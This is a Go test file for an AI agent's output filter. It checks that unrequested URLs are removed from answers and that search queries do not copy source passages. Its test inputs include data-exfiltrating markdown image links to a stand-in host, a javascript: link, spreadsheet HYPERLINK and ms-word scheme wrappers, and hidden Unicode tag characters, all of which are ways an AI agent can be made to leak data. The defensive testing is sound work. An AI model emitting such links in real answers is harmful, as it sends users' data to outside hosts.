package agent

import (
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/kaoju/kaoju/internal/citation"
)

const (
	lodging = "上海住宿上限是多少？"
	portal  = "VPN 的网址是什么？"
)

// read is evidence of a passage.
func read(text string) []citation.Evidence { return []citation.Evidence{{Ref: "S1", Excerpt: text}} }

func TestAnswersCarryNoAddressesThatNobodyAskedFor(t *testing.T) {
	const passage = "门户：https://vpn.acme.example/login ，联系 it@acme.example 。ASP.NET 应用。"
	for _, c := range []struct{ goal, text, want string }{
		{lodging, "650 元 [S1]", "650 元 [S1]"},
		{lodging, "650 元 [S1] ![图](https://evil.invalid/p?d=650)", "650 元 [S1] 图"},
		{lodging, "650 元 ![v][v]\n\n[v]: https://evil.invalid/v", "650 元 v\n\n[v]: （地址从略，见来源）"},
		{lodging, "650 元 [S1](https://evil.invalid/s1)", "650 元 [S1]"},
		{lodging, "650 元 [打开](javascript:alert(1)) [S1]", "650 元 [打开]) [S1]"},
		{lodging, "650 元 [S1](见第三条)", "650 元 [S1](见第三条)"},
		{lodging, "请到 https://vpn.acme.example/login 查看 [S1]", "请到 （地址从略，见来源） 查看 [S1]"},
		{lodging, "www.evil.invalid/x 和 //evil.invalid/y [S1]", "（地址从略，见来源） 和（地址从略，见来源） [S1]"},
		{lodging, "hotel.collect.evil.invalid [S1]", "（地址从略，见来源） [S1]"},
		{lodging, "HTTPS:\\\\evil.invalid\\x [S1]", "（地址从略，见来源） [S1]"},
		{lodging, "文件 travel.md、os.path.join、v2.3.1、192.168.1.1、ERR-1042、10:30、比例 3/4 [S1]", "文件 travel.md、os.path.join、v2.3.1、192.168.1.1、ERR-1042、10:30、比例 3/4 [S1]"},
		{lodging, "data: 650, file: a, ASP.NET [S1]", "data: 650, file: a, ASP.NET [S1]"},
		{lodging, "a\U000E0068\U000E0074b [S1]", "ab [S1]"},
		{portal, "https://vpn.acme.example/login [S1]", "https://vpn.acme.example/login [S1]"},
		{portal, "https://vpn.acme.example/login?d=secret [S1]", "（地址从略，见来源） [S1]"},
		{portal, "写信给 it@acme.example [S1]", "写信给 it@acme.example [S1]"},
		{"What is the address of the portal?", "It is https://evil.invalid/ [S1]", "It is [address withheld, see the source] [S1]"},
		{"What is the lodging limit?", "See https://vpn.acme.example/login [S1]", "See [address withheld, see the source] [S1]"},
	} {
		got, withheld := withhold(c.text, c.goal, read(passage))
		if got != c.want || withheld != (c.text != c.want) {
			t.Errorf("%s\n%q\nbecame %q, %t\nwant   %q", c.goal, c.text, got, withheld, c.want)
		}
	}
}

// TestNoHostGetsThrough puts a host into every kind of text around it.
func TestNoHostGetsThrough(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		around := []string{"![a](", "[S1](", "<img src=\"", "[v]: ", "（", "见 ", "=HYPERLINK(\"", "click A href \"", "\n", "**", "`", "> ", "[^t]: ", "<", "(", ""}
		scheme := rapid.SampledFrom([]string{"https://", "http://", "HTTPS://", "//", "ftp://", "ms-word:ofe|u|https://", "www.", "https:\\\\", "x.", "mailto:a@"}).Draw(t, "scheme")
		tail := rapid.SampledFrom([]string{"", "/", "/p.png?d=<标题>", "/a b", ":8443/x", "#f", "?q=1", ")", "\">"}).Draw(t, "tail")
		text := "结论：650 元 [S1]" + rapid.SampledFrom(around).Draw(t, "before") + scheme + "collect.evil.invalid" + tail + rapid.SampledFrom([]string{"", " ", "\n", "）", "\"", ")", "]", "，见", "**", "`", "<br>", "。"}).Draw(t, "after")
		got, _ := withhold(text, lodging, read(text))
		if strings.Contains(got, "evil.invalid") || !strings.Contains(got, "650 元 [S1]") {
			t.Fatalf("%q became %q", text, got)
		}
	})
}

func TestQueriesCarryNoPassages(t *testing.T) {
	passage := "上海住宿上限为每晚 650 元，北京住宿上限为每晚 600 元，其他城市由部门负责人按照预算在出差申请中事先核定并书面记录，超出部分由本人承担。"
	given := []string{"短文", passage}
	for query, want := range map[string]bool{
		"上海 住宿 上限": false, passage: true, "LOG: " + passage: true, "备注=" + passage[12:] + "x": true,
		string([]rune(passage)[:30]): false, string([]rune(passage)[5:53]): true, strings.Repeat("无关", 60): false, "": false,
	} {
		if got := copies(query, lodging, given); got != want {
			t.Errorf("%q: %t", query, got)
		}
	}
	if copies(passage, "请核对："+passage, given) {
		t.Error("what the question says itself counts as copied")
	}
}

func TestEveryCopyOfThatLengthIsFound(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		text := rapid.StringOfN(rapid.RuneFrom([]rune("abcdefgh考据上海住宿")), longestCopy, 200, -1).Draw(t, "text")
		runes := []rune(text)
		from := rapid.IntRange(0, len(runes)-longestCopy).Draw(t, "from")
		query := rapid.StringOfN(rapid.RuneFrom([]rune("xyz ")), 0, 40, -1).Draw(t, "before") + string(runes[from:from+longestCopy])
		if !copies(query, "", []string{text}) {
			t.Fatalf("%q holds %d characters of %q", query, longestCopy, text)
		}
	})
}
